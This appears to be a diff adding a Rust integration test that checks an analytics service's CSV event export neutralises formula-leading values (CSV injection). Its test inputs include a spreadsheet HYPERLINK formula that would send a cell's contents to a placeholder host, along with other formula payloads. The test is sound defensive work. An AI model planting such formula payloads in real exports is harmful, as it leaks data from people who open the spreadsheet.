@@ -288,9 +288,50 @@ async fn exports_stream_csv_of_each_kind(backend: TestBackend) {
     app.stop().await;
 }
 
+/// The app token ships inside every app, so anyone can send an event named like a formula:
+/// exported, such a cell is text, never a formula (OWASP "CSV Injection").
+async fn exported_formulas_are_neutralised(backend: TestBackend) {
+    let app = TestApp::spawn(backend).await;
+    let fixture = fixture(&app, "formula.example", android_app("Formula")).await;
+    let names = [
+        "=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"x\")",
+        "+1+2",
+        "-2+3",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+    ];
+    let events: Vec<_> = names
+        .iter()
+        .enumerate()
+        .map(|(i, name)| {
+            json!({ "id": format!("formula-{i}"), "type": "event", "name": name,
+                    "timestamp": now_rfc3339(10 + i as i64), "device": { "gaid": "formula-device" } })
+        })
+        .collect();
+    assert_eq!(send(&app, &fixture.app_token, &events).await.body["accepted"], names.len());
+    settle(&app).await;
+    let csv =
+        get(&app, &fixture, &format!("/api/v1/apps/{}/export/events.csv", fixture.app_id)).await;
+    assert_eq!(csv.status, 200);
+    assert!(
+        csv.text.contains(",\"'=HYPERLINK(\"\"http://example.invalid/?d=\"\"&A1,\"\"x\"\")\","),
+        "{}",
+        csv.text
+    );
+    for neutral in [",'+1+2,", ",'-2+3,", ",'@SUM(A1),", ",'\t=1,", ",\"'\r=1\","] {
+        assert!(csv.text.contains(neutral), "{neutral:?} in {}", csv.text);
+    }
+    // No cell of any line starts with a formula character.
+    for line in csv.text.split('\n').skip(1).filter(|l| !l.is_empty()) {
+        assert!(!line.contains(",=") && !line.contains(",@") && !line.contains(",\"="), "{line}");
+    }
+    app.stop().await;
+}
+
 mod exports {
-    on_both_backends!(exports_stream_csv_of_each_kind);
-    use super::exports_stream_csv_of_each_kind;
+    on_both_backends!(exports_stream_csv_of_each_kind, exported_formulas_are_neutralised);
+    use super::{exported_formulas_are_neutralised, exports_stream_csv_of_each_kind};
 }
 
 /// A browser always asks for gzip: the compressed export holds every row (it used to end early
